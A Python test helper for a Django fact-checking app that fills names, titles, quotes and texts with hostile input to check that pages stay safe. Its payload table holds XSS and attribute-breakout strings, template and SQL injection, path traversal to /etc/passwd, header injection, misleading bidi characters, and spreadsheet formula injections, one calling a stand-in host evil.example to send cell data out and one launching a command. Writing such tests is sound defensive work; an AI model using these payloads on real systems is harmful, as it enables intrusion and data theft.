"""What hostile people write into names, titles, quotes and texts; and a desk that is full of it."""

from dataclasses import dataclass
from typing import Any

from django.contrib.auth.models import User

from articles.models import Alias, Article, Changeset, Claim, Paragraph, Question, Ruling, Source, Story
from articles.writing.editing import delete_claims, open_changeset
from tests.factories import answer, make_article, make_claim, make_editor, make_highlight, make_question, orphan

PLAIN = "plainly nothing"
# None has a line end: names and titles are lines. What only a text may hold is in PARAGRAPHS.
HOSTILE = {
    "script": "</script><script>document.documentElement.dataset.ran = 1</script>"
    "'><img src=x onerror=document.documentElement.dataset.ran=1><svg onload=ran()>",
    "attribute": '" autofocus onfocus="document.documentElement.dataset.ran=1" x=\''
    "<!--<script> --!> <![CDATA[ ]]> </title></textarea></style>",
    "template": "&lt;script&gt;&quot;&#x3c;img&#62;&amp;amp; {{ 7|add:7 }}{% debug %}{# #}${7*7}#{7*7}"
    '"}],"@type":"Evil","x":[{"\\u003c/script\\u003e',
    "formula": '=HYPERLINK("http://evil.example?"&A1,"Error")',
    "direction": "report\u202etxt.exe unclosed Coal\u200bition\u200d\u2060\ufeff",
    # An isolate that is left open turns what comes after it in its block, even in an isolate of the page.
    "isolate": "\u2067\u2067\u202eunclosed",
    "address": "javascript:document.documentElement.dataset.ran=1//../../etc/passwd%00%0d%0aSet-Cookie:evil=1"
    "' OR 1=1; DROP TABLE articles_claim; -- " + "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 4,
}
# What a spreadsheet takes for a formula besides.
FORMULAS = ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd", "\u200b=1+1", "＝1+1")


@dataclass(frozen=True)
class Desk:
    """Where the walk goes: addresses of pages, and of what changed."""

    editor: User
    changeset: str
    claim: Claim
    deleted: Claim


def fill(text: str) -> Desk:
    """Everything that people write down is `text`. Slugs are ours: no one chooses them freely."""
    editor = make_editor(text[:140])
    story = Story.objects.create(slug="night", title=text[:200], summary=text)
    sources = [_source(f"{text[:100]} {number}", number) for number in range(3)]
    question = make_question(story=story, slug="how-many", text=text[:200])
    Question.objects.filter(pk=question.pk).update(counted=text[:120])
    worded = make_question(story=story, slug="in-words", text=text[:200], kind="words")
    article = _article(text, story, sources[0], "strikes")
    for number, source in enumerate(sources):
        said = [answer(question, number, as_worded=text), answer(worded, f"{text} {number}", as_worded=text)]
        _claim(text, article, source, f"claim{number}", said)
    Claim.objects.filter(uid="claim2").update(status=Claim.Status.ACCEPTED)
    _claim(text, article, sources[0], "suggested", [], status="suggested")
    make_claim(article=article, source=sources[1], highlights=[orphan(text)], uid="lost", speaker=text[:200])
    _article(text, story, sources[0], "later", revises=article)
    _article(text, story, sources[0], "withdrawn", status="withdrawn", withdrawal_notice=text)
    first, second = sources[1:]
    says = Ruling.Says.values[0]
    Ruling.objects.create(question=question, one=first, other=second, says=says, reason=text, editor=editor)
    deleted = _claim(text, article, sources[0], "deleted", [])
    changeset = open_changeset(Changeset.Kind.DELETE, editor)
    delete_claims([deleted], changeset)
    return Desk(editor, changeset.uid, Claim.objects.get(uid="claim0"), deleted)


def _source(name: str, number: int) -> Source:
    made = Source.objects.create(name=name, slug=f"s{number}", code=f"S{number}", kind="military", description=name)
    Alias.objects.create(source=made, name=f"alias {name}"[:120])
    return made


def _article(text: str, story: Story, outlet: Source, slug: str, **fields: Any) -> Article:
    heading = Paragraph(text=text, kind=Paragraph.Kind.HEADING)
    paragraphs = [f"Somebody said {text} so.", heading, f"Others said {text}, too: {slug}."]
    return make_article(
        title=text[:300], byline=text[:300], slug=slug, story=story, outlet=outlet, paragraphs=paragraphs, **fields
    )


def _claim(text: str, article: Article, source: Source, uid: str, said: list[Any], **fields: Any) -> Claim:
    words = {"speaker": text[:200], "cue": text[:120], "note": text}
    found = [make_highlight(article, text)]
    return make_claim(article=article, source=source, highlights=found, answers=said, uid=uid, **words, **fields)
